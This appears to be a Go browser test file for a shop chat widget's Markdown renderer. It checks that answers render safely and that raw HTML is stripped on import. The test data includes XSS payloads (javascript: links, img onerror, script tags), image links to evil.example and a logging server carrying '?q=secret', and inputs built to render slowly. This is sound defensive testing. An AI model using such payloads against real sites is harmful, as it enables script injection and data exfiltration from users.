package main

import (
	"context"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/chromedp/cdproto/page"
	"github.com/chromedp/chromedp"
)

// requestLog is an HTTP server on loopback that records the path and query
// of every request it gets: a stand-in for a server an answer might try to
// make the shopper's browser call.
type requestLog struct {
	*httptest.Server
	mu   sync.Mutex
	seen []string
}

func newRequestLog(t *testing.T) *requestLog {
	t.Helper()
	l := &requestLog{}
	l.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		l.mu.Lock()
		l.seen = append(l.seen, r.URL.RequestURI())
		l.mu.Unlock()
		w.Header().Set("Access-Control-Allow-Origin", "*")
		w.WriteHeader(http.StatusNoContent)
	}))
	t.Cleanup(l.Close)
	return l
}

func (l *requestLog) requests() []string {
	l.mu.Lock()
	defer l.mu.Unlock()
	return slices.Clone(l.seen)
}

// TestBrowserMarkdownAnswer imports a Markdown FAQ whose answer uses the
// answer Markdown subset and also holds what must stay inert (a javascript:
// link, an image on another server) or go (raw HTML, which the import
// strips), asks the widget, and checks what the shopper's browser built
// and did. The tab ignores the page's CSP,
// so that what is checked is the widget, not the CSP behind it.
func TestBrowserMarkdownAnswer(t *testing.T) {
	browser := startBrowser(t)
	leak := newRequestLog(t)

	const q = "礼品卡可以退吗"
	imageURL := leak.URL + "/leak.png?q=secret"
	faq := "# 售后\n\n" +
		"## " + q + " {#gift-card-refund}\n" +
		"同义问法：礼品卡能退款吗\n\n" +
		"礼品卡**售出后不退**，但可以*转赠*。\n" +
		"- 未激活的卡：联系客服\n" +
		"- 已激活的卡：不可退\n" +
		"详见 [退款政策](https://shop.example/refund?a=1&b=2)，活动代码 `GIFT-01`。\n" +
		"[点我领取](javascript:window.__pwned=1)\n" +
		"![x](" + imageURL + ")\n" +
		`<img src=x onerror="window.__pwned=2"><script>window.__pwned=3</script>` + "\n"
	file := filepath.Join(t.TempDir(), "faq.md")
	if err := os.WriteFile(file, []byte(faq), 0o600); err != nil {
		t.Fatal(err)
	}
	dir := t.TempDir()
	if out, errOut, err := xiaoer(t, "kb", "import", "--data", dir, file); err != nil {
		t.Fatalf("kb import: %v\n%s\n%s", err, out, errOut)
	}
	srv := startServer(t, dir)
	tb := newTab(t, browser)
	defer func() {
		if t.Failed() {
			t.Logf("server logs:\n%s", srv.Logs)
		}
	}()
	ctx, cancel := context.WithTimeout(tb.ctx, waitFor)
	_, err := chromedp.Call(ctx, page.SetBypassCSP, page.SetBypassCSPParams{Enabled: true})
	cancel()
	if err != nil {
		t.Fatalf("bypass the CSP: %v", err)
	}

	tb.do("open the chat",
		chromedp.Navigate(srv.Base+"/"),
		chromedp.WaitVisible(chromedp.ID("xiaoer-launcher")),
		chromedp.Click(chromedp.ID("xiaoer-launcher")),
	)
	tb.ask(q)
	tb.waitUntil("the bot answers", botReplyTo(q))
	text := lastBot + `.querySelector('.xiaoer-bubble .xiaoer-text')`

	// The subset renders as elements.
	if got := eval[[]string](tb, `Array.prototype.map.call(`+text+`.querySelectorAll('strong'),function(e){return e.textContent})`); !slices.Equal(got, []string{"售出后不退"}) {
		t.Errorf("bold elements = %q, want [售出后不退]", got)
	}
	if got := eval[[]string](tb, `Array.prototype.map.call(`+text+`.querySelectorAll('em'),function(e){return e.textContent})`); !slices.Equal(got, []string{"转赠"}) {
		t.Errorf("italic elements = %q, want [转赠]", got)
	}
	if got := eval[[]string](tb, `Array.prototype.map.call(`+text+`.querySelectorAll('ul > li'),function(e){return e.textContent})`); !slices.Equal(got, []string{"未激活的卡：联系客服", "已激活的卡：不可退"}) {
		t.Errorf("list items = %q, want the two list lines", got)
	}
	if got := eval[string](tb, `(function(){var c=`+text+`.querySelector('code');return c?c.textContent:''})()`); got != "GIFT-01" {
		t.Errorf("code = %q, want GIFT-01", got)
	}
	links := eval[[]map[string]string](tb, `Array.prototype.map.call(`+text+`.querySelectorAll('a'),function(a){
return {href:a.getAttribute('href'),rel:a.getAttribute('rel')||'',target:a.getAttribute('target')||'',text:a.textContent}})`)
	want := map[string]string{"href": "https://shop.example/refund?a=1&b=2", "rel": "noopener noreferrer nofollow", "target": "_blank", "text": "退款政策"}
	if len(links) != 1 || !mapsEqual(links[0], want) {
		t.Errorf("links = %v, want exactly %v", links, want)
	}

	// What the subset lacks is inert text, shown as written; the raw HTML
	// never reached the widget: the import removed it (knowledge.Sanitize).
	// The widget's own handling of raw HTML is TestBrowserMarkdownRendering's.
	shown := eval[string](tb, text+`.textContent`)
	for _, literal := range []string{"[点我领取](javascript:window.__pwned=1)", "![x](" + imageURL + ")"} {
		if !strings.Contains(shown, literal) {
			t.Errorf("the answer does not show %q as text:\n%s", literal, shown)
		}
	}
	for _, gone := range []string{"<img", "onerror", "<script", "__pwned=3"} {
		if strings.Contains(shown, gone) {
			t.Errorf("the answer still holds %q; the import should have removed the HTML:\n%s", gone, shown)
		}
	}
	if n := eval[int](tb, `document.querySelectorAll('.xiaoer-list img, .xiaoer-list script, .xiaoer-list iframe, .xiaoer-list [onerror], .xiaoer-list a[href^="javascript"]').length`); n != 0 {
		t.Errorf("the message list holds %d img/script/iframe/onerror/javascript-link elements, want none", n)
	}
	if got := eval[string](tb, `typeof window.__pwned`); got != "undefined" {
		t.Errorf("window.__pwned is %s: the answer ran as code", got)
	}

	// No request for the image. As a control, the page can reach the
	// logging server (the CSP is bypassed): a request made now arrives, and
	// a request the answer had made would have arrived before it.
	tb.do("request the control image", chromedp.Evaluate[chromedp.Void](`new Image().src=`+js(leak.URL+"/control.png")))
	tb.waitUntil("the control request is made", `performance.getEntriesByType('resource').some(function(e){return e.name.indexOf('/control.png')>=0})`)
	for range 50 {
		if slices.Contains(leak.requests(), "/control.png") {
			break
		}
		tb.do("wait", chromedp.Sleep(100e6))
	}
	got := leak.requests()
	if !slices.Contains(got, "/control.png") {
		t.Fatalf("the control request did not reach the logging server (%q): the check below proves nothing", got)
	}
	for _, r := range got {
		if strings.Contains(r, "leak.png") {
			t.Errorf("the browser requested %s: the answer's image was loaded", r)
		}
	}
	tb.mu.Lock()
	for _, u := range tb.requests {
		if strings.Contains(u, "leak.png") || strings.HasSuffix(u, "/x") || strings.HasPrefix(u, "https://shop.example") {
			t.Errorf("the page requested %s from the answer", u)
		}
	}
	tb.mu.Unlock()
	tb.checkConsole()
}

// TestBrowserMarkdownRendering renders nasty and ordinary answers with the
// widget's own renderer in the page and compares the elements it built.
func TestBrowserMarkdownRendering(t *testing.T) {
	browser := startBrowser(t)
	srv := startServer(t, t.TempDir())
	tb := newTab(t, browser)
	tb.do("open the page", chromedp.Navigate(srv.Base+"/"), chromedp.WaitVisible(chromedp.ID("xiaoer-launcher")))

	const (
		box   = `<div class="xiaoer-text">`
		line  = `<div class="xiaoer-line">`
		b     = `<strong class="xiaoer-md-strong">`
		link  = `<a class="xiaoer-md-link" href="%s" target="_blank" rel="noopener noreferrer nofollow">`
		ul    = `<ul class="xiaoer-md-list">`
		ol    = `<ol class="xiaoer-md-list">`
		endLn = `</div>`
	)
	a := func(href string) string { return strings.Replace(link, "%s", href, 1) }
	tests := []struct{ in, want string }{
		{"plain text, a < b & c > d", box + "plain text, a &lt; b &amp; c &gt; d</div>"},
		{"**b** *i* `c`", box + b + `b</strong> <em class="xiaoer-md-em">i</em> <code class="xiaoer-md-code">c</code></div>`},
		{"**粗体**和*斜体*", box + b + `粗体</strong>和<em class="xiaoer-md-em">斜体</em></div>`},
		{"***both***", box + b + `<em class="xiaoer-md-em">both</em></strong></div>`},
		{"2 * 3 * 4, snake_case_name, **unclosed", box + "2 * 3 * 4, snake_case_name, **unclosed</div>"},
		{`\*not italic\* and \[not a link](https://a.example)`, box + "*not italic* and [not a link](https://a.example)</div>"},
		{"`<b>bold?</b>` and `**`", box + `<code class="xiaoer-md-code">&lt;b&gt;bold?&lt;/b&gt;</code> and <code class="xiaoer-md-code">**</code></div>`},
		{"line one\nline two\n\nafter a blank", box + line + "line one" + endLn + line + "line two" + endLn + line + endLn + line + "after a blank" + endLn + "</div>"},
		{"Steps:\n- one\n* two\n1. first\n2) second", box + line + "Steps:" + endLn + ul + "<li>one</li><li>two</li></ul>" + ol + "<li>first</li><li>second</li></ol></div>"},
		{"3. three\n4. four", box + `<ol class="xiaoer-md-list" start="3"><li>three</li><li>four</li></ol></div>`},
		{"### Heading ###\ntext", box + line + b + "Heading</strong>" + endLn + line + "text" + endLn + "</div>"},
		{"[shop](https://shop.example/a?b=1&c=2)", box + a("https://shop.example/a?b=1&amp;c=2") + "shop</a></div>"},
		{"[**bold link**](HTTP://Shop.Example \"title\")", box + a("http://shop.example/") + b + "bold link</strong></a></div>"},
		{"[wiki](https://en.wikipedia.org/wiki/Foo_(bar))", box + a("https://en.wikipedia.org/wiki/Foo_(bar)") + "wiki</a></div>"},
		{"[x](javascript:alert(1))", box + "[x](javascript:alert(1))</div>"},
		{"[x](JavaScript:alert(1)) [y](data:text/html,x) [z](//evil.example) [w](https:evil) [v](mailto:a@b.c) [u](/help)",
			box + "[x](JavaScript:alert(1)) [y](data:text/html,x) [z](//evil.example) [w](https:evil) [v](mailto:a@b.c) [u](/help)</div>"},
		{"![img](https://evil.example/?q=secret)", box + "![img](https://evil.example/?q=secret)</div>"},
		{"[![img](https://evil.example/i.png)](https://shop.example)", box + "[![img](https://evil.example/i.png)](https://shop.example)</div>"},
		{"<img src=x onerror=alert(1)><script>alert(2)</script>", box + "&lt;img src=x onerror=alert(1)&gt;&lt;script&gt;alert(2)&lt;/script&gt;</div>"},
		{"[<img src=x onerror=alert(1)>](https://shop.example)", box + a("https://shop.example/") + "&lt;img src=x onerror=alert(1)&gt;</a></div>"},
		{"- [x](javascript:void(0))\n- ok", box + ul + "<li>[x](javascript:void(0))</li><li>ok</li></ul></div>"},
		{"&lt;b&gt; &amp; &#x41;", box + "&amp;lt;b&amp;gt; &amp;amp; &amp;#x41;</div>"},
	}
	for _, tt := range tests {
		got := eval[string](tb, `window.Xiaoer._md(`+js(tt.in)+`).outerHTML`)
		if got != tt.want {
			t.Errorf("render %q:\n got %s\nwant %s", tt.in, got, tt.want)
		}
	}

	// Inputs made to be slow render at once.
	for _, in := range []string{
		strings.Repeat("**a", 10000), strings.Repeat("*a", 10000), strings.Repeat("[a](", 8000),
		strings.Repeat("[", 30000) + "](https://a.example)", strings.Repeat("`", 30000), "[a](" + strings.Repeat("x", 30000),
	} {
		ms := eval[float64](tb, `(function(){var t=performance.now();window.Xiaoer._md(`+js(in)+`);return performance.now()-t})()`)
		t.Logf("rendering %.20q... took %.0f ms", in, ms)
		if ms > 2000 {
			t.Errorf("rendering %.20q... took %.0f ms", in, ms)
		}
	}
	if got := eval[string](tb, `typeof window.__pwned`); got != "undefined" {
		t.Errorf("window.__pwned is %s", got)
	}
	tb.checkConsole()
}

func mapsEqual(a, b map[string]string) bool {
	if len(a) != len(b) {
		return false
	}
	for k, v := range a {
		if b[k] != v {
			return false
		}
	}
	return true
}
